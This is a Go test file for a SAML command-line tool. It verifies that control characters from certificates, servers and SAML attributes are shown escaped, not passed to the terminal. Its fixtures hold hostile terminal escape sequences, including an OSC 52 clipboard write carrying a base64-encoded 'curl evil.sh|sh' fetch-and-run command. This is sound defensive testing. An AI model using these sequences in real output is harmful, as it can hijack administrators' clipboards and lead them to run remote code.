package main

import (
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/big"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/jcsso/jcsso/internal/samltest"
)

// osc52 is what a hostile server or document sends to write the admin's
// clipboard; clear retitles and clears the screen.
const (
	osc52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
	clear = "\x1b]0;owned\x07\x1b[2J"
)

// terminalSafe reports whether out holds no byte a terminal acts on: none
// below 0x20 but tab and newline, no DEL, no C1 control, only UTF-8.
func terminalSafe(out string) bool {
	if !utf8.ValidString(out) {
		return false
	}
	for _, r := range out {
		if r < 0x20 && r != '\t' && r != '\n' || r == 0x7f || r >= 0x80 && r <= 0x9f {
			return false
		}
	}
	return true
}

// hostileCertBase64 is a certificate whose subject carries an OSC 52
// sequence (X.509 allows any UTF-8 in a UTF8String).
func hostileCertBase64(t *testing.T) string {
	t.Helper()
	key := samltest.Key(t, 2048, 0)
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(7),
		Subject:      pkix.Name{CommonName: "JumpCloud" + osc52, Organization: []string{"Acme" + clear}},
		NotBefore:    samltest.DefaultNotBefore,
		NotAfter:     samltest.DefaultNotBefore.AddDate(5, 0, 0),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(der)
}

// Nothing a document or a server sends reaches the terminal as a control
// character: certificate subjects, entity IDs with DEL and C1 controls,
// an HTTP error body, an HTML title; in text and in --json.
func TestCheckMakesControlCharactersVisible(t *testing.T) {
	cert := hostileCertBase64(t)
	md := checkFixture(t, samltest.MetadataOptions{CertBase64: &cert, EntityID: "jumpcloud-\u009b31macme\x7f"})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/500":
			w.WriteHeader(http.StatusInternalServerError)
			fmt.Fprint(w, osc52+clear+" upstream failed")
		case "/page":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, "<!doctype html><html><head><title>Sign in &#27;]52;c;aGk=&#7;"+clear+"</title></head><body>error</body></html>")
		}
	}))
	defer srv.Close()
	for _, args := range [][]string{
		{"check", md, "--now", testNow},
		{"check", md, "--now", testNow, "--json"},
		{"check", srv.URL + "/500"},
		{"check", srv.URL + "/500", "--json"},
		{"check", srv.URL + "/page"},
	} {
		_, out, errOut := runCmd(t, "", args...)
		if !terminalSafe(out) || !terminalSafe(errOut) {
			t.Errorf("%v: a control character reached the terminal:\nstdout %q\nstderr %q", args[1:], out, errOut)
		}
		if !strings.Contains(out+errOut, `\x1b]`) && !strings.Contains(out+errOut, `\u001b]`) {
			t.Errorf("%v: the escape is not shown as \\x1b:\n%s%s", args[1:], out, errOut)
		}
	}
	// The JSON still means the document's value.
	_, out, _ := runCmd(t, "", "check", md, "--now", testNow, "--json")
	var rep struct {
		IdP struct {
			EntityID string `json:"entity_id"`
		} `json:"idp"`
	}
	if err := json.Unmarshal([]byte(out), &rep); err != nil || rep.IdP.EntityID != "jumpcloud-\u009b31macme\x7f" {
		t.Errorf("entity_id %q, %v", rep.IdP.EntityID, err)
	}
}

func TestInspectMakesControlCharactersVisible(t *testing.T) {
	dir := inspectFixtures(t, 0, samltest.ResponseOptions{
		Email:      "alice\u009b2J@acmecorp.com",
		NameID:     "alice\x7f\u0085@acmecorp.com",
		Attributes: []samltest.Attribute{{Name: "group\u009d", Values: []string{"admins\u009b?1049h"}}},
	})
	for _, json := range []bool{false, true} {
		args := []string{"inspect", filepath.Join(dir, "response.b64"), "--metadata", filepath.Join(dir, "metadata.xml"), "--now", inspectNow}
		if json {
			args = append(args, "--json")
		}
		_, out, errOut := runCmd(t, "", args...)
		if !terminalSafe(out) || !terminalSafe(errOut) || !strings.Contains(out, `u009b`) {
			t.Errorf("json %t: a control character reached the terminal:\n%q\n%q", json, out, errOut)
		}
	}
}
